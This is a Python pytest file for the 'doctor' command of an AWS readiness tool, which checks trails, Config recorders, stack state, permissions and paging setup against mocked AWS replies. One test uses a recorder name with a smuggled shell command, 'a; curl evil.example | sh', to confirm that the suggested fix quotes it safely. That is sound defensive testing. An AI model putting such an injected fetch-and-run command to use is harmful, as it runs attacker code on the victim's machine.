"""`doctor`: each thing that keeps Readiness from seeing, judging or telling is a line with a cure."""

from __future__ import annotations

import json
import re
from datetime import timedelta

import pytest

from readiness.engine.rows import to_item
from readiness.model.blindness import UNREADABLE
from readiness.model.finding import iso
from readiness.model.unreadable import Cause, Unreadable
from readiness_cli import session
from readiness_cli.doctor import account, deployment, paging, permissions
from readiness_cli.doctor.check import Examined, State, unanswered
from tests.accounts.audit import recorder, recorder_status
from tests.cli import toy
from tests.fake_account import ACCOUNT_ID, FAULTS, HOME, NOON, FakeAccount, error
from tests.findings import finding

ROLE = f"arn:aws:sts::{ACCOUNT_ID}:assumed-role/Admin/ann"
TRAIL = f"arn:aws:cloudtrail:{HOME}:{ACCOUNT_ID}:trail/all"
TOPIC = f"arn:aws:sns:{HOME}:{ACCOUNT_ID}:readiness-alerts"
WATCHER = f"arn:aws:sns:{HOME}:{ACCOUNT_ID}:readiness-watcher"
MACHINE = f"arn:aws:states:{HOME}:{ACCOUNT_ID}:stateMachine:Sweep"
OUTPUTS = {
    "FindingsTable": "findings",
    "TransitionsTable": "transitions",
    "AlertsTopic": TOPIC,
    "WatcherTopic": WATCHER,
    "Sweep": MACHINE,
    "SettingsParameter": "/readiness/readiness/settings",
    "PagerDutySecret": "readiness/readiness/pagerduty",
    **{
        name: f"https://sqs.{HOME}.amazonaws.com/{ACCOUNT_ID}/{name}" for name in deployment.QUEUES
    },
}
PARTS = {
    "EncryptionRole": "readiness-EncryptionRole-X",
    "EncryptionApiCall": "readiness-EncryptionApiCall-X",
    "EncryptionConfigItem": "readiness-EncryptionConfigItem-X",
    "SweepMissed": "readiness-SweepMissed-X",
}
WITHOUT_FUNCTION = {name: each for name, each in PARTS.items() if "Role" not in name}
REPLY = {"LatestDeliveryTime": NOON - timedelta(minutes=5), "IsLogging": True}


def described(**parameters):
    return {
        "Stacks": [
            {
                "StackName": "readiness",
                "CreationTime": NOON,
                "StackStatus": "UPDATE_COMPLETE",
                "Outputs": [{"OutputKey": k, "OutputValue": v} for k, v in OUTPUTS.items()],
                "Parameters": [
                    {"ParameterKey": k, "ParameterValue": v} for k, v in parameters.items()
                ],
            }
        ]
    }


def listed(parts):
    return {
        "StackResourceSummaries": [
            {
                "LogicalResourceId": logical,
                "PhysicalResourceId": physical,
                "ResourceType": "AWS::IAM::Role",
                "LastUpdatedTimestamp": NOON,
                "ResourceStatus": "CREATE_COMPLETE",
            }
            for logical, physical in parts.items()
        ]
    }


def simulated(*denied):
    def answer(**asked):
        return {
            "EvaluationResults": [
                {
                    "EvalActionName": name,
                    "EvalDecision": "implicitDeny" if name in denied else "allowed",
                }
                for name in asked["ActionNames"]
            ]
        }

    return answer


def triggered(**counts):
    def answer(**asked):
        found = []
        for query in asked["MetricDataQueries"]:
            [dimension] = query["MetricStat"]["Metric"]["Dimensions"]
            kind = re.search(r"Encryption(\w+)-X", dimension["Value"])[1]
            values = [float(v) for v in counts.get(kind, ())]
            stamps = [NOON - timedelta(hours=n + 1) for n in range(len(values))]
            found.append({"Id": query["Id"], "Values": values, "Timestamps": stamps})
        return {"MetricDataResults": found}

    return answer


def subscribed(**by_topic):
    def answer(**asked):
        topic = asked["TopicArn"]
        kind = "alerts" if topic == TOPIC else "watcher"
        return {
            "Subscriptions": [
                {
                    "SubscriptionArn": arn,
                    "Protocol": "email",
                    "Endpoint": "ops@example.com",
                    "TopicArn": topic,
                }
                for arn in by_topic.get(kind, (f"{topic}:1234",))
            ]
        }

    return answer


def rows(*, sweeps=(), waiting=(), still_open=(), held=()):
    def answer(**more):
        values = more["ExpressionAttributeValues"].values()
        asked = [next(iter(value.values())) for value in values]
        if f"sweep#{ACCOUNT_ID}/{HOME}" in asked:
            return {"Items": list(sweeps)}
        if more.get("IndexName") == "unpublished":
            return {"Items": list(waiting) if "yes" in asked else []}
        if more.get("IndexName") == "open":
            return {"Items": list(still_open)}
        return {"Items": list(held) if "held" in asked else []}

    return answer


def held(number, because):
    row = {"finding_id": "held", "at": f"{number:012x}", "rule": "x.y", "because": because}
    return {name: {"S": text} for name, text in row.items()}


def swept(hours, failed=()):
    row = {"finding_id": {"S": "sweep"}, "at": {"S": iso(NOON - timedelta(hours=hours))}}
    return row | ({"failed": {"L": [{"S": name} for name in failed]}} if failed else {})


def depth(**counts):
    def answer(**asked):
        count = counts.get(asked["QueueUrl"].rsplit("/", 1)[-1], 0)
        return {"Attributes": {"ApproximateNumberOfMessages": str(count)}}

    return answer


def world(**more):
    """An account and a stack in which nothing is wrong."""
    base = {
        ("sts", "get_caller_identity"): {"Account": ACCOUNT_ID, "Arn": ROLE, "UserId": "A:ann"},
        ("iam", "get_role"): {
            "Role": {
                "Path": "/team/",
                "RoleName": "Admin",
                "RoleId": "AROAEXAMPLE000000000",
                "Arn": f"arn:aws:iam::{ACCOUNT_ID}:role/team/Admin",
                "CreateDate": NOON,
            }
        },
        ("iam", "simulate_principal_policy"): simulated(),
        ("cloudtrail", "describe_trails"): {
            "trailList": [
                {
                    "Name": "all",
                    "TrailARN": TRAIL,
                    "HomeRegion": HOME,
                    "IsMultiRegionTrail": True,
                    "HasCustomEventSelectors": False,
                }
            ]
        },
        ("cloudtrail", "get_trail_status"): REPLY,
        ("config", "describe_configuration_recorders"): {"ConfigurationRecorders": [recorder()]},
        ("config", "describe_configuration_recorder_status"): recording(),
        ("cloudformation", "describe_stacks"): described(),
        ("cloudformation", "list_stack_resources"): listed(PARTS),
        ("ssm", "get_parameter"): {"Parameter": {"Name": "s", "Value": "{}"}},
        ("ssm", "get_parameters_by_path"): {"Parameters": [manifest("agents")]},
        ("cloudwatch", "get_metric_data"): triggered(ApiCall=[3, 4], ConfigItem=[1]),
        ("cloudwatch", "describe_alarms"): {"MetricAlarms": []},
        ("sns", "list_subscriptions_by_topic"): subscribed(),
        ("secretsmanager", "describe_secret"): {"VersionIdsToStages": {"1" * 32: ["AWSCURRENT"]}},
        ("sqs", "get_queue_attributes"): depth(),
        ("dynamodb", "query"): rows(sweeps=[swept(2)]),
    }
    return FakeAccount(base).but(**more)


def manifest(workload, **changes):
    document = {"owner": "team@example.com", "reviewed": "2026-01-31", **changes}
    name = f"/readiness/manifest/{workload}"
    return {"Name": name, "Type": "String", "Value": json.dumps(document)}


def recording(**changes):
    return {"ConfigurationRecordersStatus": [recorder_status(**changes)]}


def no_stack(**asked):
    if "StackName" not in asked:
        return {"Stacks": []}
    return error("ValidationError", message=f"Stack with id {asked['StackName']} does not exist")


def lines(said):
    return json.loads(said.stdout)


def of(said, check):
    return [line for line in lines(said) if line["check"] == check]


def test_a_stack_in_order_has_only_lines_that_are_ok(run, over):
    over(world())
    said = run("doctor", "-o", "json")
    assert said.exit_code == 0, said.output
    assert {line["state"] for line in lines(said)} == {"ok"}
    checks = (*account.CHECKS, *permissions.CHECKS, *deployment.CHECKS, *paging.CHECKS)
    assert {line["check"] for line in lines(said)} >= {check.name for check in checks}


def test_before_a_deployment_only_the_account_is_checked(run, over):
    over(world(cloudformation__describe_stacks=no_stack))
    said = run("doctor", "-o", "json")
    assert said.exit_code == 0, said.output
    assert "only the account is checked" in said.stderr
    assert [line["check"] for line in lines(said)] == [
        "credentials",
        "sdk",
        "services",
        "trail",
        "recorder",
        "global events",
        "manifests",
        "permissions",
    ]


def test_types_that_are_recorded_late_are_counted(run, over):
    daily = recorder(recordingMode={"recordingFrequency": "DAILY"})
    answer = {"ConfigurationRecorders": [daily]}
    over(world(config__describe_configuration_recorders=answer))
    [line] = of(run("doctor", "-o", "json"), "recorder")
    assert line["state"] == "ok"
    assert "once a day" in line["said"]


@pytest.mark.parametrize("fault", sorted(FAULTS))
def test_the_account_is_checked_although_nobody_may_ask_for_the_stack(run, over, fault):
    fake = over(world())
    fake.faults["cloudformation", "describe_stacks"] = FAULTS[fault]
    said = run("doctor", "-o", "json")
    assert said.exit_code == 3, said.output
    [line] = of(said, "stack")
    assert line["state"] == "unknown"
    assert "cloudformation:DescribeStacks" in line["said"]
    assert {each["check"] for each in lines(said)} >= {check.name for check in account.CHECKS}


def test_a_stack_that_was_named_must_exist(run, over):
    over(world(cloudformation__describe_stacks=no_stack))
    said = run("doctor", "--stack-name", "other")
    assert said.exit_code == 4
    assert "there is no stack 'other'" in said.stderr.lower()


@pytest.mark.parametrize(
    ("check", "state", "seen", "fix", "more"),
    [
        pytest.param(
            "trail",
            "failed",
            "no trail records the management events",
            "create-trail",
            {"cloudtrail__describe_trails": {"trailList": []}},
            id="no trail",
        ),
        pytest.param(
            "trail",
            "failed",
            "is not logging",
            "start-logging",
            {"cloudtrail__get_trail_status": {"IsLogging": False}},
            id="a trail that was stopped",
        ),
        pytest.param(
            "trail",
            "unknown",
            "cloudtrail:GetTrailStatus was denied",
            "cloudtrail:GetTrailStatus",
            {"cloudtrail__get_trail_status": FAULTS["denied"]},
            id="a trail whose status is denied",
        ),
        pytest.param(
            "trail",
            "unknown",
            "has not delivered any events yet",
            "wait for its first delivery",
            {"cloudtrail__get_trail_status": {"IsLogging": True, "StartLoggingTime": NOON}},
            id="a trail that was started just now",
        ),
        pytest.param(
            "recorder",
            "warning",
            "no customer managed recorder",
            "config-recorder",
            {"config__describe_configuration_recorders": {"ConfigurationRecorders": []}},
            id="no recorder",
        ),
        pytest.param(
            "recorder",
            "warning",
            "the recorder default is stopped",
            "start-configuration-recorder",
            {"config__describe_configuration_recorder_status": recording(recording=False)},
            id="a recorder that was stopped",
        ),
        pytest.param(
            "recorder",
            "warning",
            "failed to record",
            "config-recorder",
            {"config__describe_configuration_recorder_status": recording(lastStatus="FAILURE")},
            id="a recorder that fails",
        ),
        pytest.param(
            "recorder",
            "warning",
            "leaves out AWS::KMS::Key",
            "config-recorder",
            {
                "config__describe_configuration_recorders": {
                    "ConfigurationRecorders": [
                        recorder(
                            recordingGroup={
                                "recordingStrategy": {"useOnly": "EXCLUSION_BY_RESOURCE_TYPES"},
                                "exclusionByResourceTypes": {"resourceTypes": ["AWS::KMS::Key"]},
                            }
                        )
                    ]
                }
            },
            id="a recorder that leaves out a type",
        ),
        pytest.param(
            "recorder",
            "unknown",
            "no status",
            "run it again",
            {
                "config__describe_configuration_recorder_status": {
                    "ConfigurationRecordersStatus": []
                }
            },
            id="a recorder without a status",
        ),
        pytest.param(
            "permissions",
            "failed",
            "encryption: IAM denies the roles of the stack s3:GetEncryptionConfiguration",
            '"s3:GetEncryptionConfiguration"',
            {"iam__simulate_principal_policy": simulated("s3:GetEncryptionConfiguration")},
            id="an SCP that denies the role a read",
        ),
        pytest.param(
            "headings",
            "warning",
            "no function for encryption",
            "sam deploy",
            {"cloudformation__list_stack_resources": listed(WITHOUT_FUNCTION)},
            id="a stack of another version",
        ),
        pytest.param(
            "stack",
            "warning",
            "UPDATE_ROLLBACK_COMPLETE",
            "describe-stack-events",
            {
                "cloudformation__describe_stacks": {
                    "Stacks": [
                        described()["Stacks"][0] | {"StackStatus": "UPDATE_ROLLBACK_COMPLETE"}
                    ]
                }
            },
            id="an update that was rolled back",
        ),
        pytest.param(
            "settings",
            "failed",
            "most_days",
            "sam deploy",
            {
                "ssm__get_parameter": {
                    "Parameter": {"Value": '{"encryption.kms-rotation": {"most_days": 1}}'}
                }
            },
            id="a setting out of its bounds",
        ),
        pytest.param(
            "settings",
            "failed",
            "no rule or heading 'encription.s3-kms'",
            "sam deploy",
            {"ssm__get_parameter": {"Parameter": {"Value": '{"encription.s3-kms": {}}'}}},
            id="a setting of a rule that does not exist",
        ),
        pytest.param(
            "settings",
            "failed",
            "not JSON",
            "sam deploy",
            {"ssm__get_parameter": {"Parameter": {"Value": "{"}}},
            id="settings that are no JSON",
        ),
        pytest.param(
            "events",
            "warning",
            "no event of API calls",
            "trail",
            {"cloudwatch__get_metric_data": triggered(ConfigItem=[2])},
            id="no API event in a day",
        ),
        pytest.param(
            "sweep",
            "warning",
            "no sweep has completed",
            MACHINE,
            {"dynamodb__query": rows()},
            id="before the first sweep",
        ),
        pytest.param(
            "sweep",
            "failed",
            "14 hours ago",
            MACHINE,
            {"dynamodb__query": rows(sweeps=[swept(14)])},
            id="a sweep that is overdue",
        ),
        pytest.param(
            "sweep",
            "failed",
            "did not complete encryption",
            "logs",
            {"dynamodb__query": rows(sweeps=[swept(1, ["encryption"])])},
            id="a heading that does not complete",
        ),
        pytest.param(
            "alerts",
            "failed",
            "no confirmed subscription",
            "AlertEmail",
            {"sns__list_subscriptions_by_topic": subscribed(alerts=())},
            id="nobody listens",
        ),
        pytest.param(
            "alerts",
            "failed",
            "no confirmed subscription",
            "AlertEmail",
            {"sns__list_subscriptions_by_topic": subscribed(alerts=("Deleted",))},
            id="only a deleted subscription",
        ),
        pytest.param(
            "watcher",
            "failed",
            "no confirmed subscription",
            "WatcherEmail",
            {"sns__list_subscriptions_by_topic": subscribed(watcher=("PendingConfirmation",))},
            id="the watcher's mail was not confirmed",
        ),
        pytest.param(
            "manifests",
            "failed",
            "/readiness/manifest/agents cannot be used: owner: it must be text, not 7",
            "readiness manifest check FILE",
            {
                "ssm__get_parameters_by_path": {
                    "Parameters": [manifest("agents", owner=7), manifest("site")]
                }
            },
            id="a manifest that is refused",
        ),
        pytest.param(
            "pager",
            "failed",
            "no PagerDuty routing key",
            "readiness pagerduty-key",
            {"secretsmanager__describe_secret": {"Name": "s"}},
            id="no routing key",
        ),
        pytest.param(
            "quiet hours",
            "failed",
            "'Europe/Berlinn' is no time zone",
            "QuietTimeZone",
            {
                "cloudformation__describe_stacks": described(
                    QuietHours="22:00-07:00", QuietTimeZone="Europe/Berlinn"
                )
            },
            id="a time zone that does not exist",
        ),
        pytest.param(
            "routes",
            "failed",
            "'team=a' is not owner=",
            "PagerDutyRoutes",
            {"cloudformation__describe_stacks": described(PagerDutyRoutes='{"team=a": "b"}')},
            id="a route by what no finding has",
        ),
        pytest.param(
            "keys",
            "failed",
            "2 incidents cannot be resolved: the secret has no routing key 'payments'",
            "readiness pagerduty-key --name",
            {
                "dynamodb__query": rows(
                    sweeps=[swept(2)],
                    held=[
                        held(1, "no key: the secret has no routing key 'payments'"),
                        held(2, "no key: the secret has no routing key 'payments'"),
                        held(3, "quiet hours"),
                    ],
                )
            },
            id="a key that was taken away too early",
        ),
        pytest.param(
            "failure queues",
            "failed",
            "about 3 pages",
            "readiness redrive",
            {"sqs__get_queue_attributes": depth(UndeliveredPagesQueue=3)},
            id="pages that could not be delivered",
        ),
        pytest.param(
            "watcher's alarms",
            "failed",
            "SweepMissed-X is in ALARM",
            "describe-alarms",
            {
                "cloudwatch__describe_alarms": {
                    "MetricAlarms": [
                        {"AlarmName": "readiness-SweepMissed-X", "StateValue": "ALARM"},
                        {"AlarmName": "readiness-of-somebody-else", "StateValue": "ALARM"},
                    ]
                }
            },
            id="an alarm of the stack",
        ),
    ],
)
def test_what_is_wrong_is_a_line_with_its_reason_and_its_cure(
    run, over, check, state, seen, fix, more
):
    over(world(**more))
    said = run("doctor", "-o", "json")
    wrong = [line for line in lines(said) if line["state"] != "ok"]
    [line] = [line for line in wrong if line["check"] == check and seen in line["said"]]
    assert line["state"] == state
    assert fix in line["fix"]
    assert line["why"]
    assert said.exit_code == {"failed": 1, "unknown": 3, "warning": 0}[state]
    # What is about one thing leaves every other check as it was.
    assert {each["check"] for each in wrong} <= {check, "permissions"}


def test_every_call_that_is_denied_is_unknown_and_never_ok(run, over):
    fake = over(world())
    run("doctor")
    first = {("sts", "get_caller_identity"), ("cloudformation", "describe_stacks")}
    for call in set(fake.calls) - first:
        fake = over(world())
        fake.faults[call] = FAULTS["denied"]
        said = run("doctor", "-o", "json")
        assert said.exit_code == 3, (call, said.output)
        unknown = [line for line in lines(said) if line["state"] == "unknown"]
        assert any("was denied" in line["said"] for line in unknown), call
        assert all(line["fix"].startswith("allow ") for line in unknown), call


OF_TABLES = "dynamodb", "query"


@pytest.mark.parametrize("fault", sorted(FAULTS))
def test_tables_that_do_not_answer_are_unknown_and_cost_no_other_check(run, over, fault):
    fake = over(world())
    fake.faults[OF_TABLES] = FAULTS[fault]
    said = run("doctor", "-o", "json")
    assert said.exit_code == 3, said.output
    unknown = {line["check"] for line in lines(said) if line["state"] != "ok"}
    assert unknown == {"sweep", "unknown", "outbox", "keys"}


def test_an_answer_without_what_is_asked_for_is_unknown_and_never_ok(run, over):
    fake = over(world())
    run("doctor")
    may_be_empty = {
        ("cloudformation", "list_stack_resources"),  # no function of any heading: a warning
        ("cloudwatch", "describe_alarms"),
        ("config", "describe_configuration_recorders"),
        ("ssm", "get_parameters_by_path"),
    }
    first = {("sts", "get_caller_identity"), ("cloudformation", "describe_stacks")}
    for service, operation in set(fake.calls) - first - may_be_empty:
        over(world(**{f"{service}__{operation}": {}}))
        said = run("doctor", "-o", "json")
        assert said.exit_code in {1, 3}, (operation, said.output)
        assert len(lines(said)) > 10, operation


@pytest.mark.parametrize("lacking", sorted(set(OUTPUTS) - {"FindingsTable", "TransitionsTable"}))
def test_a_stack_of_an_older_version_lacks_one_line_and_has_the_others(run, over, lacking):
    older = described()
    [stack] = older["Stacks"]
    stack["Outputs"] = [each for each in stack["Outputs"] if each["OutputKey"] != lacking]
    queues = depth(**{name: 3 for name in deployment.QUEUES if name != lacking})
    over(world(cloudformation__describe_stacks=older, sqs__get_queue_attributes=queues))
    said = run("doctor", "-o", "json")
    [line] = [line for line in lines(said) if line["state"] == "unknown"]
    assert lacking in line["said"]
    assert "sam deploy" in line["fix"]
    full = [line for line in of(said, "failure queues") if line["state"] == "failed"]
    assert len(full) == len(deployment.QUEUES) - (lacking in deployment.QUEUES)


def with_status(status):
    return {"Stacks": [described()["Stacks"][0] | {"StackStatus": status}]}


@pytest.mark.parametrize(
    ("status", "state", "why"),
    [
        ("REVIEW_IN_PROGRESS", "failed", "No version"),
        ("CREATE_FAILED", "failed", "No version"),
        ("ROLLBACK_COMPLETE", "failed", "No version"),
        ("DELETE_FAILED", "failed", "No version"),
        ("DELETE_IN_PROGRESS", "failed", "No version"),
        ("CREATE_IN_PROGRESS", "warning", "a mixture"),
        ("UPDATE_IN_PROGRESS", "warning", "a mixture"),
        ("UPDATE_ROLLBACK_FAILED", "warning", "a mixture"),
        ("UPDATE_ROLLBACK_COMPLETE", "warning", "the version before"),
        ("IMPORT_COMPLETE", "ok", ""),
    ],
)
def test_what_runs_of_a_stack_that_is_half_deployed(run, over, status, state, why):
    over(world(cloudformation__describe_stacks=with_status(status)))
    said = run("doctor", "-o", "json")
    [line] = of(said, "stack")
    assert (line["state"], status in line["said"]) == (state, True)
    assert why in line["why"]
    assert said.exit_code == (1 if state == "failed" else 0)


def test_a_stack_without_rules_of_eventbridge_sees_nothing(run, over):
    parts = {name: each for name, each in PARTS.items() if "ApiCall" not in name}
    over(world(cloudformation__list_stack_resources=listed(parts)))
    said = run("doctor", "-o", "json")
    [failed] = [line for line in of(said, "events") if line["state"] == "failed"]
    assert "no rule for API calls" in failed["said"]
    assert said.exit_code == 1


def test_what_cloudformation_deleted_again_is_no_part_of_the_stack(run, over):
    """A rollback leaves the resources that it deleted in the list."""
    rolled_back = with_status("ROLLBACK_COMPLETE")
    rolled_back["Stacks"][0]["Outputs"] = []
    gone = listed({"FindingsTable": "findings", "TransitionsTable": "transitions", **PARTS})
    for each in gone["StackResourceSummaries"]:
        each["ResourceStatus"] = "DELETE_COMPLETE"
    over(
        world(
            cloudformation__describe_stacks=rolled_back,
            cloudformation__list_stack_resources=gone,
        )
    )
    said = run("doctor", "-o", "json")
    assert said.exit_code == 1, said.output
    [outbox] = of(said, "outbox")
    assert outbox["state"] == "unknown"
    assert "has no FindingsTable" in outbox["said"]
    assert "ok" not in {line["state"] for line in lines(said) if line["check"] == "events"}
    found = run("findings", "--open")
    assert found.exit_code == 4
    assert "Its deployment is not complete: ROLLBACK_COMPLETE" in found.stderr


def test_a_trail_that_has_delivered_nothing_yet_is_asked_again_later(run, over):
    new = {"IsLogging": True, "StartLoggingTime": NOON - timedelta(minutes=2)}
    over(world(cloudtrail__get_trail_status=new))
    said = run("doctor", "-o", "json")
    [line] = of(said, "trail")
    assert (line["state"], said.exit_code) == ("unknown", 3)
    assert "run it again" in line["fix"]


def test_a_trail_whose_status_is_throttled_needs_no_permission(run, over):
    fake = over(world())
    fake.faults["cloudtrail", "get_trail_status"] = FAULTS["throttled"]
    [line] = of(run("doctor", "-o", "json"), "trail")
    assert line["state"] == "unknown"
    assert "run it again" in line["fix"]


@pytest.mark.parametrize("status", ["InternalError", "Forbidden"])
def test_events_that_could_not_be_counted_are_not_none(run, over, status):
    def uncounted(**asked):
        queries = asked["MetricDataQueries"]
        return {
            "MetricDataResults": [
                {"Id": query["Id"], "StatusCode": status, "Values": [], "Timestamps": []}
                for query in queries
            ]
        }

    over(world(cloudwatch__get_metric_data=uncounted))
    [line] = of(run("doctor", "-o", "json"), "events")
    assert line["state"] == "unknown"


def test_an_action_that_the_simulator_does_not_answer_is_not_allowed(run, over):
    def half(**asked):
        return {"EvaluationResults": simulated()(**asked)["EvaluationResults"][1:]}

    over(world(iam__simulate_principal_policy=half))
    [line] = of(run("doctor", "-o", "json"), "permissions")
    assert line["state"] == "unknown"


def test_the_simulator_is_told_in_which_region_each_call_is_made(over):
    """A boundary that allows one region only would otherwise deny every action."""
    regions = {}

    def simulate(**call):
        [entry] = call["ContextEntries"]
        assert entry["ContextKeyName"] == "aws:RequestedRegion"
        regions.update(dict.fromkeys(call["ActionNames"], entry["ContextKeyValues"]))
        return simulated()(**call)

    over(world(iam__simulate_principal_policy=simulate))
    examined = Examined(_moved(session.connect(None, None), "eu-west-1"), (), "readiness")
    assert not permissions.denied_actions(examined, ROLE, ["s3:GetX", "iam:GetX", "ec2:GetX"])
    assert regions == {
        "s3:GetX": ["eu-west-1"],
        "ec2:GetX": ["eu-west-1"],
        "iam:GetX": ["us-east-1"],
    }


@pytest.mark.parametrize(
    ("cause", "fix"),
    [
        (Cause.NOT_OFFERED, "does not have the service"),
        (Cause.SDK_TOO_OLD, "upgrade botocore"),
        (Cause.TOKEN_REFUSED, "enable the region"),
    ],
)
def test_what_does_not_pass_by_itself_is_not_to_be_waited_for(cause, fix):
    assert fix in unanswered("recorder", Unreadable("config:DescribeX", cause)).fix


def test_credentials_that_cannot_be_simulated_are_unknown(run, over):
    root = {"Account": ACCOUNT_ID, "Arn": f"arn:aws:iam::{ACCOUNT_ID}:root", "UserId": ACCOUNT_ID}
    over(world(sts__get_caller_identity=root, cloudformation__describe_stacks=no_stack))
    said = run("doctor", "-o", "json")
    [line] = of(said, "permissions")
    assert line["state"] == "unknown"
    assert "readiness scan" in line["fix"]
    assert said.exit_code == 3


def test_the_role_behind_a_session_is_simulated_with_its_path(run, over):
    asked = []

    def simulate(**call):
        asked.append(call["PolicySourceArn"])
        return simulated()(**call)

    over(
        world(
            iam__simulate_principal_policy=simulate,
            cloudformation__describe_stacks=no_stack,
        )
    )
    run("doctor")
    assert set(asked) == {f"arn:aws:iam::{ACCOUNT_ID}:role/team/Admin"}


def test_a_page_of_actions_is_simulated_at_a_time(over):
    sizes = []

    def simulate(**call):
        sizes.append(len(call["ActionNames"]))
        return simulated("s3:Get149")(**call)

    over(world(iam__simulate_principal_policy=simulate))
    examined = Examined(session.connect(None, None), (), "readiness")
    actions = [f"s3:Get{number}" for number in range(150)]
    assert permissions.denied_actions(examined, ROLE, actions) == {"s3:Get149"}
    assert sizes == [100, 50]


def test_transitions_that_wait_are_told_with_their_age(run, over):
    row = {
        "finding_id": {"S": "abc"},
        "at": {"S": iso(NOON - timedelta(hours=1))},
        "kind": {"S": "OPENED"},
        "resource": {"S": f"{ACCOUNT_ID}/{HOME}/AWS::S3::Bucket/data"},
        "rule": {"S": "encryption.s3-kms"},
    }
    over(world(dynamodb__query=rows(sweeps=[swept(2)], waiting=[row])))
    said = run("doctor", "-o", "json")
    [line] = of(said, "outbox")
    assert line["state"] == "failed"
    assert "1 transitions wait since 2026-11-02T11" in line["said"]


def test_findings_that_stay_unknown_name_the_missing_actions(run, over):
    blind = finding(
        status="INSUFFICIENT_DATA",
        missing=("s3:GetEncryptionConfiguration", "kms:DescribeKey"),
        denied=("s3:GetEncryptionConfiguration",),
        blinded_at=NOON,
    )
    throttled = blind.but(rule="xray.tracing", missing=("xray:GetGroups",), denied=())
    heading = blind.but(rule=UNREADABLE)
    still_open = [to_item(each) for each in (blind, throttled, heading)]
    over(world(dynamodb__query=rows(sweeps=[swept(2)], still_open=still_open)))
    said = run("doctor", "-o", "json")
    [line, other] = of(said, "unknown")
    assert line["state"] == "warning"
    assert "encryption: 1 finding cannot be evaluated" in line["said"]
    assert "kms:DescribeKey" in line["said"]
    assert '"Action": ["s3:GetEncryptionConfiguration"]' in line["fix"]
    assert "without xray:GetGroups" in other["said"]
    assert other["fix"] == "readiness findings --open --heading xray", "no permission is missing"


def test_a_command_to_paste_runs_nothing_else(run, over):
    """AWS Config takes any text as the name of a recorder."""
    name = "a; curl evil.example | sh"
    stopped = {"ConfigurationRecordersStatus": [recorder_status(name=name, recording=False)]}
    over(
        world(
            config__describe_configuration_recorders={
                "ConfigurationRecorders": [recorder(name=name)]
            },
            config__describe_configuration_recorder_status=stopped,
        )
    )
    [line] = of(run("doctor", "-o", "json"), "recorder")
    assert line["fix"].endswith(f" '{name}'")


def test_outside_the_home_region_global_events_do_not_arrive(run, over, monkeypatch):
    fake = over(world())

    connect = session.connect
    monkeypatch.setattr(
        session, "connect", lambda *args, **more: _moved(connect(*args, **more), "eu-west-1")
    )
    said = run("doctor", "-o", "json")
    [line] = of(said, "global events")
    assert line["state"] == "warning"
    assert "reach only us-east-1" in line["said"]
    fake.answers["cloudformation", "describe_stacks"] = described(EvaluateGlobalServices="false")
    [line] = of(run("doctor", "-o", "json"), "global events")
    assert line["state"] == "ok"


def _moved(aws, region):
    aws.region = region
    return aws


def test_the_pasted_url_needs_no_key(run, over):
    url = described(PagerDutyIntegrationUrl="https://events.pagerduty.com/x")
    over(world(cloudformation__describe_stacks=url, secretsmanager__describe_secret={"Name": "s"}))
    [line] = of(run("doctor", "-o", "json"), "pager")
    assert line["state"] == "ok"


def test_commands_name_the_stack_that_is_meant(run, over):
    over(world(secretsmanager__describe_secret={"Name": "s"}))
    said = run("doctor", "--stack-name", "second", "-o", "json")
    [line] = of(said, "pager")
    assert line["fix"] == "readiness pagerduty-key --stack-name second"


def test_an_old_sdk_names_what_it_cannot_ask(run, over, monkeypatch):
    monkeypatch.setattr(account.sdk, "OLDEST", (99, 0, 0))
    over(world())
    [line] = of(run("doctor", "-o", "json"), "sdk")
    assert line["state"] == "warning"
    assert "99.0.0" in line["fix"]


def test_a_throttled_check_is_to_be_run_again():
    line = unanswered("trail", Unreadable("cloudtrail:DescribeTrails", Cause.THROTTLED))
    assert line.state is State.UNKNOWN
    assert "again" in line.fix


def test_the_table_is_readable_at_80_columns(run, over):
    over(world(secretsmanager__describe_secret={"Name": "s"}))
    said = run("doctor")
    assert max(map(len, said.stdout.splitlines())) <= 80
    assert "Fix: readiness pagerduty-key" in " ".join(said.stdout.split())


def test_the_events_that_count_are_those_of_calls_that_wake_a_rule():
    assert "s3.amazonaws.com" in set(account.sources(toy.encryption))
